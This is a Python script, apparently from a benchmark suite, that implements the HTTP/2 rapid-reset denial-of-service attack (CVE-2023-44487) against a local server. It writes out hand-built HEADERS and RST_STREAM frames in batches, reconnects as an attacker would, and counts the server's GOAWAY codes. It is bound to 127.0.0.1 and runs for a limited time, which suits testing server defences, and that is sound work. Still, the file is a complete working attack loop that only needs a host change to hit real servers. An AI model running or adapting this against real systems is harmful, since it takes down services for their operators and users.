#!/usr/bin/env python3
"""bench/http2/rapid_reset.py — one client running the HTTP/2 rapid-reset loop
(CVE-2023-44487) at full speed for a bounded time, against 127.0.0.1 only.

On one connection at a time: the preface and SETTINGS, then batches of HEADERS
(END_STREAM, a GET of PATH) each followed at once by RST_STREAM(CANCEL) on the same
stream, as fast as the socket takes them. What the server sends back is read and
dropped (its SETTINGS are acknowledged; a GOAWAY is counted by error code). When the
server closes the connection the client opens another and goes on, as an attacker
would, until SECONDS have passed. Prints one JSON line of counts at the end.

Frames are written by hand (hyperframe is not needed on the hot path): the header
block is HPACK without the dynamic table (indexed :method GET and :scheme, literal
:path and :authority), so the same bytes serve every stream.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
                7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def literal(index, value):
    v = value.encode()
    assert len(v) < 127
    return bytes([index, len(v)]) + v   # literal without indexing, indexed name


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (default: h2c)")
    ap.add_argument("--path", default="/1k.bin")
    ap.add_argument("--seconds", type=float, default=8)
    ap.add_argument("--batch", type=int, default=100, help="HEADERS+RST_STREAM pairs per write")
    a = ap.parse_args()

    block = bytes([0x82, 0x87 if a.tls else 0x86]) + literal(0x04, a.path) + literal(0x01, "localhost")
    headers_tmpl = frame(1, 0x05, 0, block)          # END_STREAM | END_HEADERS
    rst_tmpl = frame(3, 0, 0, struct.pack(">I", 8))  # CANCEL
    pair = bytearray(headers_tmpl + rst_tmpl)
    h_off, r_off = 5, len(headers_tmpl) + 5
    batch = bytearray(pair * a.batch)

    stats = {"connections": 0, "streams_sent": 0, "bytes_received": 0, "goaway": {},
             "closed_by_server": 0, "connect_errors": 0, "settings_acked": 0}
    deadline = time.monotonic() + a.seconds
    ctx = None
    if a.tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])

    while time.monotonic() < deadline:
        try:
            s = socket.create_connection(("127.0.0.1", a.port), timeout=2)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if ctx:
                s = ctx.wrap_socket(s, server_hostname="localhost")
                if s.selected_alpn_protocol() != "h2":
                    raise SystemExit(f"server chose ALPN {s.selected_alpn_protocol()!r}, not h2")
        except OSError:
            stats["connect_errors"] += 1
            time.sleep(0.01)
            continue
        stats["connections"] += 1
        s.sendall(PREFACE + frame(4, 0, 0, b""))
        s.setblocking(False)
        sid = 1
        rbuf = b""
        out = b""
        acks = b""       # SETTINGS ACKs to send, only between whole frames
        alive = True
        while alive and time.monotonic() < deadline:
            if not out:
                out, acks = acks, b""
                for i in range(a.batch):
                    o = i * len(pair)
                    struct.pack_into(">I", batch, o + h_off, sid)
                    struct.pack_into(">I", batch, o + r_off, sid)
                    sid += 2
                out += bytes(batch)
                stats["streams_sent"] += a.batch
                if sid > 2**31 - 2 * a.batch:
                    break
            r, w, _ = select.select([s], [s], [], 0.5)
            if w:
                try:
                    n = s.send(out)
                    out = out[n:]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass
                except OSError:
                    alive = False
            if r and alive:
                try:
                    while True:
                        data = s.recv(262144)
                        if not data:
                            alive = False
                            break
                        stats["bytes_received"] += len(data)
                        rbuf += data
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    pass
                except OSError:
                    alive = False
                # Walk complete frames: ack SETTINGS, note GOAWAY.
                while len(rbuf) >= 9:
                    ln = int.from_bytes(rbuf[:3], "big")
                    if len(rbuf) < 9 + ln:
                        break
                    ftype, flags = rbuf[3], rbuf[4]
                    if ftype == 4 and not flags & 1:
                        acks += frame(4, 1, 0, b"")
                        stats["settings_acked"] += 1
                    elif ftype == 7 and ln >= 8:
                        code = int.from_bytes(rbuf[13:17], "big")
                        name = GOAWAY_NAMES.get(code, str(code))
                        stats["goaway"][name] = stats["goaway"].get(name, 0) + 1
                    rbuf = rbuf[9 + ln:]
        if not alive:
            stats["closed_by_server"] += 1
        try:
            s.close()
        except OSError:
            pass
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
